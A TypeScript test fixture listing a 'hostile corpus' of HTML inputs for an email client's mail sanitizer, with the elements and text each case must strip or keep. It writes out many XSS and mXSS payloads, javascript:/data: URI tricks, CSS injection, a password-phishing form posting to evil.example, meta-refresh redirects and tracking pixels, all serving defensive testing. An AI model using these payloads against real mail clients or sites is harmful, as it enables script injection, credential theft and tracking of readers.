import type { SanitizeMailHtmlOptions } from './sanitizeMailHtml';

/** One hostile (or benign control) input for `sanitizeMailHtml`, with what must and must not survive. */
export interface HostileCase {
  name: string;
  html: string;
  options?: SanitizeMailHtmlOptions;
  /** CSS selectors that must match nothing in the sanitized output. */
  absent?: string[];
  /** CSS selectors that must match at least one element in the output (benign content kept). */
  present?: string[];
  /** Substrings that must not occur anywhere in the output HTML (compared lower-cased). */
  forbiddenText?: string[];
  /** Text content that must survive. */
  keptText?: string[];
  blockedRemoteImages?: number;
  hasRemoteContent?: boolean;
}

const XSS = 'alert(1)';

/**
 * The sanitizer's hostile corpus. Exported so the editor and a real browser (`*.browser.test.ts`) can replay it;
 * check a result with `hostileCaseFailures`.
 */
export const hostileCorpus: readonly HostileCase[] = [
  {
    name: 'img onerror with a relative src',
    html: `<img src=x onerror="${XSS}"><p>Hi</p>`,
    absent: ['[onerror]', 'img[src]'],
    forbiddenText: ['onerror', 'alert'],
    keptText: ['Hi'],
  },
  {
    name: 'upper-case IMG/ONERROR',
    html: `<IMG SRC=x ONERROR=${XSS}>`,
    absent: ['[onerror]', 'img[src]'],
    forbiddenText: ['onerror', 'alert'],
  },
  {
    name: 'svg with script',
    html: `<svg><script>${XSS}</script><circle r="5"/></svg><p>ok</p>`,
    absent: ['svg', 'script', 'circle'],
    forbiddenText: ['alert', '<svg'],
    keptText: ['ok'],
  },
  {
    name: 'plain script',
    html: `<script>${XSS}</script><p>hi</p>`,
    absent: ['script'],
    forbiddenText: ['alert'],
    keptText: ['hi'],
  },
  {
    name: 'mixed-case javascript: link',
    html: `<a href="jAvAsCrIpT:${XSS}">click</a>`,
    absent: ['a[href]'],
    forbiddenText: ['javascript', 'alert'],
    keptText: ['click'],
  },
  {
    name: 'entity-encoded javascript: scheme',
    html: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${XSS}">x</a>`,
    absent: ['a[href]'],
    forbiddenText: ['javascript', 'alert'],
  },
  {
    name: 'tab and newline inside the scheme',
    html: `<a href="jav&#x09;ascr&#x0A;ipt:${XSS}">x</a>`,
    absent: ['a[href]'],
    forbiddenText: ['alert'],
  },
  {
    name: 'relative link into our own origin, NUL inside a scheme',
    html: '<a href="/api/v1/account/logout">x</a><a href="java\u0000script:alert(1)">y</a><a href="//cdn.example/p">z</a>',
    absent: ['a[href^="/api"]', 'a[href*="script"]'],
    present: ['a[href="//cdn.example/p"][target="_blank"]'],
    forbiddenText: ['logout', 'script:'],
  },
  {
    name: 'vbscript: link',
    html: '<a href="vbscript:msgbox(1)">x</a>',
    absent: ['a[href]'],
    forbiddenText: ['vbscript'],
  },
  {
    name: 'data:text/html link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    absent: ['a[href]'],
    forbiddenText: ['data:text'],
  },
  {
    name: 'data:text/html as an image',
    html: `<img alt="a" src="data:text/html,<script>${XSS}</script>">`,
    absent: ['img[src]'],
    present: ['img[alt="a"]'],
    forbiddenText: ['data:text', 'alert'],
  },
  {
    name: 'math mXSS (mglyph/style namespace confusion)',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${XSS}&gt;">`,
    absent: ['math', '[onerror]', 'style'],
    forbiddenText: ['<math', 'onerror='],
  },
  {
    name: 'noscript mXSS',
    html: `<noscript><p title="</noscript><img src=x onerror=${XSS}>"></noscript>`,
    absent: ['noscript', '[onerror]'],
    forbiddenText: ['onerror='],
  },
  {
    name: 'global <style>',
    html: '<style>body{display:none}</style><p>text</p>',
    absent: ['style'],
    forbiddenText: ['display:none', '<style'],
    keptText: ['text'],
  },
  {
    name: 'full-screen overlay via position:fixed',
    html: '<div style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>',
    absent: ['[style*="position"]', '[style*="z-index"]', '[style*="inset"]'],
    present: ['div[style*="background:red"]'],
    forbiddenText: ['fixed', 'z-index'],
    keptText: ['overlay'],
  },
  {
    name: 'position:absolute with odd case, sticky, relative kept, offsets dropped',
    html: '<div style="POSITION: Absolute; top:0">a</div><div style="position:sticky">b</div><div style="position:relative">c</div>',
    absent: ['[style*="bsolute" i]', '[style*="sticky"]', '[style*="top"]'],
    present: ['div[style="position:relative"]'],
  },
  {
    name: 'CSS expression(), also escaped',
    html: `<div style="width:expression(${XSS})">a</div><div style="width:expr\\65 ssion(${XSS});color:blue">b</div>`,
    present: ['div[style="color:blue"]'],
    forbiddenText: ['expression', 'ssion(', 'alert'],
  },
  {
    name: 'CSS behavior and -moz-binding',
    html: '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#xss);color:green">a</div>',
    present: ['div[style="color:green"]'],
    forbiddenText: ['behavior', 'binding', '.htc'],
  },
  {
    name: 'CSS url(javascript:)',
    html: `<div style="background:url(javascript:${XSS});font-weight:bold">a</div>`,
    present: ['div[style="font-weight:bold"]'],
    forbiddenText: ['javascript', 'alert'],
  },
  {
    name: 'form, input, button, textarea',
    html: '<form action="https://evil.example/steal"><input name="pw" type="password"><button>Log in</button><textarea>t</textarea></form><p>after</p>',
    absent: ['form', 'input', 'button', 'textarea'],
    forbiddenText: ['action=', 'evil.example'],
    keptText: ['after'],
  },
  {
    name: '<base href>',
    html: '<base href="https://evil.example/"><a href="https://ok.example/">x</a>',
    absent: ['base'],
    forbiddenText: ['evil.example'],
  },
  {
    name: 'DOM clobbering through name and id',
    html: '<img name="getElementById" src="cid:logo@x"><form id="location"></form><a id="cookie" href="https://ok.example/">a</a>',
    absent: ['[name]', '[id]', 'form'],
    present: ['img[src="cid:logo@x"]'],
    forbiddenText: ['getelementbyid', 'location'],
  },
  {
    name: 'tracking pixel',
    html: '<p>Hello</p><img src="https://t.example/open.gif?u=42" width="1" height="1">',
    absent: ['img[src]'],
    present: ['img[data-inkwell-remote-src="https://t.example/open.gif?u=42"][width="1"]'],
    keptText: ['Hello'],
    blockedRemoteImages: 1,
    hasRemoteContent: true,
  },
  {
    name: 'protocol-relative image',
    html: '<img src="//t.example/p.gif">',
    absent: ['img[src]'],
    present: ['img[data-inkwell-remote-src="//t.example/p.gif"]'],
    blockedRemoteImages: 1,
  },
  {
    name: 'relative image aimed at our own origin (cookie-bearing GET)',
    html: '<img src="/api/v1/account/logout" alt="x">',
    absent: ['img[src]', '[data-inkwell-remote-src]'],
    forbiddenText: ['logout'],
    blockedRemoteImages: 0,
    hasRemoteContent: false,
  },
  {
    name: 'remote srcset next to an inline src',
    html: '<img src="cid:a@x" srcset="https://t.example/a.png 2x, https://t.example/b.png 3x">',
    absent: ['img[srcset]'],
    present: [
      'img[src="cid:a@x"]',
      'img[data-inkwell-remote-srcset="https://t.example/a.png 2x, https://t.example/b.png 3x"]',
    ],
    blockedRemoteImages: 1,
  },
  {
    name: 'srcset smuggling javascript: after a valid candidate',
    html: `<img src="cid:a@x" srcset="https://t.example/a.png 1x, javascript:${XSS} 2x">`,
    absent: ['img[srcset]', '[data-inkwell-remote-srcset]'],
    forbiddenText: ['javascript'],
  },
  {
    name: 'background= attribute',
    html: '<table background="https://t.example/bg.png"><tr><td>cell</td></tr></table>',
    absent: ['[background]'],
    present: ['table[data-inkwell-remote-background="https://t.example/bg.png"]', 'td'],
    keptText: ['cell'],
    blockedRemoteImages: 1,
  },
  {
    name: 'CSS url() background',
    html: `<div style="color:red;background-image:url('https://t.example/bg.png')">x</div>`,
    present: [
      'div[style="color:red"]',
      `div[data-inkwell-remote-style='background-image: url("https://t.example/bg.png")']`,
    ],
    absent: ['[style*="url("]'],
    blockedRemoteImages: 1,
    hasRemoteContent: true,
  },
  {
    name: 'remote images allowed on request',
    html: '<img src="https://cdn.example/logo.png" alt="logo"><div style="background:url(https://cdn.example/bg.png)">x</div>',
    options: { allowRemoteImages: true },
    present: ['img[src="https://cdn.example/logo.png"]', 'div[style*=\'url("https://cdn.example/bg.png")\']'],
    absent: ['[data-inkwell-remote-src]', '[data-inkwell-remote-style]'],
    blockedRemoteImages: 0,
    hasRemoteContent: true,
  },
  {
    name: 'planted restore attributes',
    html: `<img alt="a" data-inkwell-remote-src="javascript:${XSS}"><div data-inkwell-remote-style="background:url(javascript:x)">b</div>`,
    absent: ['[data-inkwell-remote-src]', '[data-inkwell-remote-style]'],
    forbiddenText: ['javascript'],
    blockedRemoteImages: 0,
  },
  {
    name: '<meta http-equiv=refresh>',
    html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    absent: ['meta'],
    forbiddenText: ['refresh', 'evil'],
  },
  {
    name: '<link rel=stylesheet>',
    html: '<link rel="stylesheet" href="https://evil.example/x.css"><p>a</p>',
    absent: ['link'],
    forbiddenText: ['x.css'],
  },
  {
    name: '<iframe srcdoc>',
    html: `<iframe srcdoc="<script>${XSS}</script>"></iframe>`,
    absent: ['iframe'],
    forbiddenText: ['srcdoc', 'alert'],
  },
  {
    name: '<object> and <embed>',
    html: '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object><p>b</p>',
    absent: ['object', 'embed'],
    forbiddenText: ['x.swf'],
    keptText: ['b'],
  },
  {
    name: '<template> content',
    html: `<template><img src=x onerror=${XSS}></template><p>after</p>`,
    absent: ['template', 'img'],
    forbiddenText: ['onerror'],
    keptText: ['after'],
  },
  {
    name: 'markup hidden in a comment',
    html: `<!--<img src=x onerror=${XSS}>--><p>a</p>`,
    absent: ['img'],
    forbiddenText: ['<!--', 'onerror'],
    keptText: ['a'],
  },
  {
    name: 'comment closed early with --!>',
    html: `<!-- --!><img src=x onerror=${XSS}> -->`,
    absent: ['[onerror]', 'img[src]'],
    forbiddenText: ['onerror'],
  },
  {
    name: '<details ontoggle>, <dialog open>, popover',
    html: `<details open ontoggle=${XSS}><summary>s</summary>d</details><dialog open>x</dialog><div popover>p</div>`,
    absent: ['[ontoggle]', 'dialog', '[popover]'],
    present: ['details', 'summary'],
    forbiddenText: ['ontoggle', 'popover'],
  },
  {
    name: 'links open in a new tab without an opener, even when they ask for _top',
    html: '<a href="https://example.com/" target="_top">site</a><a href="mailto:ann@example.com">mail</a><a href="tel:+4930123">call</a>',
    present: [
      'a[href="https://example.com/"][target="_blank"][rel="noopener noreferrer"]',
      'a[href="mailto:ann@example.com"][target="_blank"]',
      'a[href="tel:+4930123"]',
    ],
    absent: ['[target="_top"]'],
  },
  {
    name: 'benign newsletter table keeps its layout',
    html:
      '<table width="600" align="center" bgcolor="#ffffff" cellpadding="4" class="wrap" dir="rtl">' +
      '<tr><td valign="top" style="color:#333;font-family:Arial;text-align:right;padding:8px">שלום</td>' +
      '<td><font color="red" face="Verdana" size="2">hi</font></td></tr></table>',
    present: [
      'table[width="600"][align="center"][bgcolor="#ffffff"][cellpadding="4"].wrap[dir="rtl"]',
      'td[valign="top"][style="color:#333;font-family:Arial;text-align:right;padding:8px"]',
      'font[color="red"][face="Verdana"][size="2"]',
    ],
    keptText: ['שלום', 'hi'],
    blockedRemoteImages: 0,
    hasRemoteContent: false,
  },
  {
    name: 'inline data: image survives, quoting markers survive',
    html: '<blockquote type="cite" data-inkwell-quote=""><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"></blockquote>',
    present: [
      'blockquote[type="cite"][data-inkwell-quote]',
      'img[src="data:image/png;base64,iVBORw0KGgo="][alt="dot"]',
    ],
    blockedRemoteImages: 0,
  },
];
